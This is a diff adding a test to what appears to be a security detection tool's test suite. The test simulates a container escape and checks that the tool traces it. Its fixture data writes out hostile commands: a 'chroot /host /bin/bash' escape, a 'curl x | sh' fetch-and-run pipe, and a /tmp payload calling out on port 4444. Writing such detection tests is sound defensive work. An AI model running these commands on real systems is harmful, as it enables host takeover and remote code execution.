@@ -311,3 +311,27 @@ def test_a_connection_only_a_connect_hook_saw_is_an_endpoint_though_other_flows_
     (i,) = find_in(**frames(procs, flows, kp, hits=hits)).incidents
     assert ("203.0.113.77", 9001) in {(e.ip, e.port) for e in i.endpoints}
     assert i.key_command is not None and i.key_command.exec_id == "nc"
+
+
+def test_what_ran_suspiciously_on_the_host_after_an_escape_is_reached_from_it():
+    """An exec'd shell chroots to the host (a T1611 detection); cron (running before the capture)
+    later starts a shell whose payload connects out; cron's earlier and routine jobs stay out."""
+    procs = [proc("sh", "shim", "web-1", "/bin/sh", "", 10 * S, init=False),
+             proc("chroot", "sh", "web-1", "/usr/sbin/chroot", "/host /bin/bash", 12 * S, init=False),
+             proc("cron", None, None, "/usr/sbin/cron", "-f", None, seen="parent"),
+             proc("early", "cron", None, "/tmp/.early", "", 5 * S),
+             proc("hsh", "cron", None, "/bin/sh", "-c 'curl x | sh'", 300 * S),
+             proc("pay", "hsh", None, "/tmp/.p", "", 301 * S),
+             proc("rot", "cron", None, "/usr/sbin/logrotate", "/etc/logrotate.conf", 360 * S)]
+    flows = [flow("o1", 302 * S, "pay", (None, None), None, 4444, dst_ip="203.0.113.9")]
+    hits = _hits([{"rule_id": "sigma:chroot", "title": "Container escape tool", "level": "critical",
+                   "techniques": ["T1611"], "exec_id": "chroot", "event_id": "h1", "time_ns": 12 * S,
+                   "workload": "web"},
+                  {"rule_id": "sigma:tmp", "title": "run from /tmp", "level": "high", "exec_id": "pay",
+                   "event_id": "h2", "time_ns": 301 * S}])
+    f = find_in(**frames(procs, flows, hits=hits))
+    (i,) = [x for x in f.incidents if x.pod == "web-1"]
+    host = [r for r in i.reached if r.pod is None and r.node == "n1"]
+    assert host and {"hsh", "pay"} <= set(host[0].exec_ids) and "escape" in host[0].how
+    assert not {"early", "rot", "cron"} & set(host[0].exec_ids)
+    assert i.key_command is not None and i.key_command.exec_id == "pay"
